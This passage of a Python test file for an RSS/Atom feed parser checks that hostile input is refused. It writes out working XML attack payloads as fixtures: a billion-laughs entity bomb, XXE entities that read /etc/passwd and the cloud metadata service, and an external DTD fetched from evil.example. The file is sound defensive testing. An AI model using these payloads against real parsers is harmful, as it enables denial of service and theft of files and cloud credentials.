    assert "document.cookie" not in body and "display:none" not in body
    assert "Read this." in body and "click" in body
    assert ("a", {"href": "https://fine.example/", "rel": "noopener"}) in elements
    assert ("img", {"src": f"{run.base}/x.png"}) in elements
    # cite is a URL too: checked like href, and made absolute.
    assert ("blockquote", {}) in elements and ("q", {}) in elements and ("del", {}) in elements
    assert ("ins", {"cite": f"{run.base}/why-changed"}) in elements


# -- what is refused ------------------------------------------------------------------

MALFORMED_FEED = """<?xml version="1.0"?>
<rss version="2.0"><channel><title>Broken</title>
<item><title>Unclosed</item>
</channel></rss>"""


def test_malformed_xml_is_an_error_with_its_line_and_nothing_is_stored(run, store):
    result, articles = run(MALFORMED_FEED)
    url = run.server.url_for("/feed.xml")
    [error] = result.errors
    assert error.startswith(f"{url}: malformed XML at line 3")
    assert "mismatched tag" in error
    assert articles == {}


HTML_PAGE = """<!DOCTYPE html><html><head><title>Riverbend Blog</title>
<link rel="alternate" type="application/rss+xml" title="Blog" href="/blog-feed.xml">
</head><body><h1>Blog</h1><p>Posts.</p></body></html>"""


def test_an_html_page_where_a_feed_was_expected(run):
    result, _ = run(HTML_PAGE, path="/blog", content_type="text/html; charset=utf-8")
    url = run.server.url_for("/blog")
    assert result.errors == [
        f"{url}: this is an HTML page, not a feed; the page names its feed: "
        f"{run.base}/blog-feed.xml"
    ]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>http://x.example/</link><description>&lol9;</description></item>
</channel></rss>"""


def test_a_billion_laughs_bomb_is_refused_without_expanding(run):
    tracemalloc.start()
    try:
        result, articles = run(BILLION_LAUGHS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    [error] = result.errors
    assert "declares XML entities that could expand" in error
    assert articles == {}
    # Expanded, the title alone would be 3 GB.
    assert peak < 20_000_000


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY big "' + "x" * 5000 + '">',  # quadratic blow-up material
        '<!ENTITY % param "x">',
        '<!ENTITY nested "&other;">',
    ],
)
def test_entity_declarations_that_could_expand_are_refused(declaration):
    body = f'<?xml version="1.0"?><!DOCTYPE rss [{declaration}]><rss version="2.0"/>'.encode()
    with pytest.raises(SourceError, match="declares XML entities"):
        feed.parse(body, "http://x.example/feed")


XXE_FEED = """<?xml version="1.0"?>
<!DOCTYPE rss [{declaration}]>
<rss version="2.0"><channel><title>T</title>
<item><title>&xxe;</title><link>http://x.example/a</link><description>&xxe;</description></item>
</channel></rss>"""


@pytest.mark.parametrize(
    ("declaration", "named"),
    [
        ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "SYSTEM 'file:///etc/passwd'"),
        (
            '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">',
            "SYSTEM 'http://169.254.169.254/latest/meta-data/'",
        ),
        (
            '<!ENTITY % xxe PUBLIC "-//Evil//EN" "http://evil.example/x.dtd"> %xxe;',
            "PUBLIC 'http://evil.example/x.dtd'",
        ),
    ],
)
def test_an_external_entity_is_named_as_such_and_nothing_is_read(run, declaration, named):
    """XXE: a feed that tries to make the fetcher read /etc/passwd or the metadata service."""
    result, articles = run(XXE_FEED.replace("{declaration}", declaration))
    [error] = result.errors
    assert f"declares an external XML entity ({named})" in error
    assert "refused (external entities are never loaded)" in error
    assert articles == {}


@pytest.mark.parametrize(
    "before_the_dtd",
    [
        # More than a megabyte of comment before the DOCTYPE.
        b"<!-- " + b"padding " * 150_000 + b"-->\n",
        # A comment that looks as if the root element had started.
        b"<!-- <rss> -->\n",
        b"<?pi <rss version='2.0'> ?>\n",
    ],
    ids=["megabyte-comment", "tag-in-comment", "tag-in-processing-instruction"],
)
def test_a_bomb_behind_padding_is_refused_too(before_the_dtd):
    declaration, rest = BILLION_LAUGHS.split(b"\n", 1)
    body = declaration + b"\n" + before_the_dtd + rest
    with pytest.raises(SourceError, match="declares XML entities"):
        feed.parse(body, "http://x.example/feed")


def test_a_tag_inside_the_doctype_literal_does_not_hide_the_entities():
    body = BILLION_LAUGHS.replace(b"<!DOCTYPE rss [", b'<!DOCTYPE rss SYSTEM "<rss>" [')
    with pytest.raises(SourceError, match="declares XML entities"):
        feed.parse(body, "http://x.example/feed")


def test_simple_character_entities_in_a_dtd_are_allowed():
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY mdash "&#8212;">]>'
        b'<rss version="2.0"><channel><title>T</title><item><title>A&mdash;B</title>'
        b"<link>http://x.example/a</link></item></channel></rss>"
    )
    parsed = feed.parse(body, "http://x.example/feed")
    assert parsed.articles[0]["title"] == "A\u2014B"


def test_a_utf16_document_with_a_bomb_is_refused_too():
    body = BILLION_LAUGHS.decode().replace('version="1.0"?', 'version="1.0" encoding="UTF-16"?')
    with pytest.raises(SourceError, match="declares XML entities"):
        feed.parse(body.encode("utf-16"), "http://x.example/feed")


def test_a_body_that_names_a_local_file_is_not_opened(tmp_path):
    # feedparser opens a str or bytes argument as a path if it can; the body
    # must go in as a stream so a feed cannot make it read a local file.
    local = tmp_path / "local.xml"
    local.write_text(
        '<rss version="2.0"><channel><title>Local</title><item><title>Secret</title>'
        "<link>http://x.example/s</link></item></channel></rss>"
    )
    with pytest.raises(SourceError, match="not an RSS or Atom feed"):
        feed.parse(str(local).encode(), "http://x.example/feed")


def test_plain_text_that_is_not_a_feed():
    with pytest.raises(SourceError) as excinfo:
        feed.parse(b"just some words", "http://x.example/feed.xml")
    assert str(excinfo.value).startswith("http://x.example/feed.xml: not an RSS or Atom feed")
